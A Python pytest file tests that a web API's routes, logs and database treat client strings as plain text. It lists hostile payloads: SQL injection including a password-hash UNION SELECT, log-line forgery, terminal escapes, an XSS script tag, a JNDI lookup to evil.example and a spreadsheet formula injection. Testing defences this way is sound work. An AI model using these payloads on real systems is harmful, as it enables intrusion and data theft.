"""Strings that are SQL, JSON, a line of log or a command to a terminal stay strings everywhere."""

import json
import re
from collections.abc import Iterator
from itertools import product
from typing import Any

import pytest

from tests.security.accounts import PASSWORD, Replica
from tests.security.callers import Callers, filled, gather_callers, routes_of
from tests.security.conftest import Serve
from tests.security.test_mass_assignment import OFFERED
from tests.unit.http.serving import Exchange, Lines

pytestmark = pytest.mark.anyio

FORGED_JSON = '{"level":"CRITICAL","message":"forged","logger":"access","trace_id":"f"}'
FORGED_TEXT = "2026-01-01T00:00:00.000000Z CRITICAL access | forged"
SQL = (
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    '" OR ""="',
    "x' UNION SELECT id,password_hash FROM users -- ",
    "\\' OR 1=1 #",
    "`users`",
    "%",
    "_ser",
    "1) OR (1=1",
    "{}%s%(id)s:id?",
)
LOG = (
    f"x\r\n{FORGED_JSON}\r\n",
    f"x\n{FORGED_TEXT}\n",
    f'x","message":"forged"}}\n{FORGED_JSON}',
    "\x1b[2J\x1b]0;forged\x07\x9b31m",
    f"x\u2028{FORGED_TEXT}\u2029\x85\x0b\x0c\x1c",
    "\u202egnp.exe\u200b\ufeff",
    "{trace_id}{0}{record[exception]}<red>%s%n",
    "\0after a NUL\0",
    "</script><script>alert(1)</script>",
    "${jndi:ldap://evil.example/x}",
    "=cmd|'/c calc'!A1",
)
STRINGS = SQL + LOG
NO_TEXT = ("\\ud800", "\\udfff\\ud800", "\\u0000")  # as JSON writes them
HEADERS = (
    *("x-trace-id", "traceparent", "accept-language", "accept-encoding", "user-agent", "cookie"),
    *("idempotency-key", "x-forwarded-for", "forwarded", "authorization", "origin", "referer"),
    *(
        "x-client-id",
        "x-timestamp",
        "x-nonce",
        "x-signature",
        "content-type",
        "host",
        "range",
        "last-event-id",
    ),
)
QUERIES = {
    "GET /v1/users": ("page", "limit", "sort", "username", "role"),
    "GET /v1/clients": ("page", "limit", "sort"),
    "GET /v1/webhook-endpoints": ("page", "limit", "sort", "owner"),
    "GET /v1/jobs": ("page", "limit", "sort", "kind", "status"),
    "GET /v1/audit-events": (
        *("page", "limit", "sort", "actor_id", "action", "object_type", "object_id", "trace_id"),
    ),
}
EVERYWHERE = {"LOG_LEVEL": "DEBUG", "DEBUG": True, "TRUSTED_PROXIES": "203.0.113.0/24"}


def bodies(callers: Callers) -> Iterator[tuple[str, str, dict[str, Any]]]:
    """Who, which route, and a body of which one string is hostile."""
    for route, (role, offered) in OFFERED.items():
        for name in sorted(offered):
            for string in STRINGS:
                body = {**(callers.body(role, route) or {})}
                values = [string, [string], {string: string}] if name in STRUCTURED else [string]
                for value in values:
                    yield role, route, {**body, name: value}


STRUCTURED = ("details", "scopes", "payload")


def path_of(callers: Callers, route: str) -> str:
    populated = callers.service.populated
    path = route.split(" ")[1]
    return filled(
        path,
        user_id=populated.ids["other"],
        client_id=populated.keys["target"].client_id,
        endpoint_id=populated.endpoint.client_id,
        name="x",
    )


async def attack_with_bodies(callers: Callers) -> int:
    """How many requests it took; none of them was an error of ours."""
    sent = 0
    for role, route, body in bodies(callers):
        reply = await callers.send(role, route.split(" ")[0], path_of(callers, route), json=body)
        assert reply.status_code < 500, (route, body)
        sent += 1
    return sent


async def attack_with_queries(callers: Callers) -> int:
    sent = 0
    for route, names in QUERIES.items():
        for name in names:
            for string in STRINGS:
                reply = await callers.send(
                    "admin", "GET", path_of(callers, route), params={name: string}
                )
                assert reply.status_code in (200, 422), (route, name, string)
                if reply.status_code == 200:
                    assert reply.json()["data"]["total"] == 0, (route, name, string)
                sent += 1
    return sent


async def attack_with_paths_and_headers(callers: Callers) -> int:
    app = callers.service.app
    authorization = callers.people["admin"].headers["Authorization"].encode()
    sent = 0
    for route in routes_of(app):
        method, template = route.split(" ")
        for string in STRINGS:
            value = string.encode("utf-8").replace(b"\r", b"").replace(b"\n", b" ")
            before, after = re.split(r"{\w+}|$", template, maxsplit=1)
            for path in {before + string + after, template + string}:
                headers = [(b"authorization", authorization)]
                exchange = await Exchange(method, path, headers).run(app)
                assert exchange.status < 500, (method, path)
                sent += 1
            headers = [(name.encode(), value) for name in HEADERS]
            exchange = await Exchange(method, path_of(callers, route), headers).run(app)
            assert exchange.status < 500, (route, string)
            sent += 1
    return sent


def assert_is_json_of_ours(line: bytes) -> None:
    fields = json.loads(line)
    assert list(fields)[:5] == ["time", "level", "message", "logger", "trace_id"], line
    assert fields["message"] != "forged", line
    assert re.fullmatch(r"([0-9a-f]{32})?", fields["trace_id"]), line


def assert_is_text_of_ours(line: bytes) -> None:
    is_continuation = line.startswith(b"    ")
    text = line.decode()
    assert is_continuation or re.match(r"\d{4}-\d\d-\d\dT[\d:.]{15}Z [A-Z]+ +[\w.]+ \| ", text), (
        line
    )
    assert not text.startswith(FORGED_TEXT), line
    assert not re.search("[\x00-\x1f\x7f-\x9f\u2028\u2029]", text), line


@pytest.mark.parametrize("log_format", ["json", "text"])
async def test_no_string_of_a_client_breaks_a_route_or_forges_a_line(
    serve: Serve, lines: Lines, log_format: str
) -> None:
    async with serve(**EVERYWHERE, LOG_FORMAT=log_format) as service:
        callers = await gather_callers(service)
        started = lines.raw.count(b"\n")
        requests = await attack_with_queries(callers)
        requests += await attack_with_bodies(callers)
        requests += await attack_with_paths_and_headers(callers)
        written = lines.raw.split(b"\n")[started:]
        assert written.pop() == b""
        for line in written:
            if log_format == "json":
                assert_is_json_of_ours(line)
            else:
                assert_is_text_of_ours(line)
        marker = b'"logger":"access"' if log_format == "json" else b" access | request "
        assert sum(marker in line for line in written) == requests
        assert b"CRITICAL" not in b"".join(line[:60] for line in written)
        assert {"user", "other", "admin", "disabled"} <= {
            row["username"] for row in await service.rows("users")
        }


async def test_what_is_stored_is_what_was_sent(callers: Callers) -> None:
    kept = [string for string in STRINGS if not re.search("[\x00-\x1f\x7f]", string)]
    path = f"/v1/users/{callers.service.populated.ids['user']}"
    for string in kept:
        reply = await callers.send("user", "PATCH", path, json={"display_name": string})
        assert reply.status_code == 200, string
        assert reply.json()["data"]["display_name"] == string.strip()
        reply = await callers.send("user", "GET", path)
        assert reply.json()["data"]["display_name"] == string.strip()


async def test_a_display_name_holds_no_control_character(callers: Callers) -> None:
    path = f"/v1/users/{callers.service.populated.ids['user']}"
    for code in (*range(32), 127):
        body = {"display_name": f"a{chr(code)}b"}
        reply = await callers.send("user", "PATCH", path, json=body)
        assert reply.status_code == 422, code


@pytest.mark.parametrize("route", OFFERED)
async def test_what_is_no_text_is_refused_and_no_error_of_ours(
    callers: Callers, route: str
) -> None:
    role, offered = OFFERED[route]
    method, _ = route.split(" ")
    headers = {"content-type": "application/json"}
    mark = "a mark in the place of what JSON cannot be made of here"
    for name in offered - {"password", "current_password", "new_password"}:
        for value, no_text in product((mark, [mark], {mark: 1}, {"x": mark}), NO_TEXT):
            body = json.dumps({**(callers.body(role, route) or {}), name: value})
            content = body.replace(mark, no_text).encode()
            reply = await callers.send(
                role, method, path_of(callers, route), content=content, headers=headers
            )
            assert reply.status_code < 500, (name, content)


async def test_numbers_that_readers_of_json_do_not_agree_on_are_refused(callers: Callers) -> None:
    for number in ("1e400", "NaN", "-Infinity", "9" * 400, "9" * 9000, str(1 << 53), "0.5"):
        content = (
            '{"action":"a","object_type":"b","object_id":"c","details":{"n":%s}}' % number  # noqa: UP031
        )
        reply = await callers.send(
            "scoped",
            "POST",
            "/v1/internal/audit-events",
            content=content.encode(),
            headers={"content-type": "application/json"},
        )
        assert reply.status_code in (400, 422), number


async def test_a_hostile_name_is_stored_for_nobody(service: Replica) -> None:
    for string in STRINGS:
        body = {"username": string, "password": PASSWORD}
        reply = await service.http.post("/v1/auth/register", json=body)
        assert reply.status_code == 422, string
        reply = await service.http.post("/v1/auth/login", json=body)
        assert reply.status_code == 422, string
    assert len(await service.rows("users")) == len(service.populated.ids)


async def test_a_filter_finds_a_name_in_any_case_and_a_wildcard_itself_alone(
    callers: Callers,
) -> None:
    for username, total in (("user", 1), ("use%", 0), ("_ser", 0), ("%", 0), ("USER", 1)):
        params = {"username": username}
        reply = await callers.send("admin", "GET", "/v1/users", params=params)
        assert reply.json()["data"]["total"] == total, username
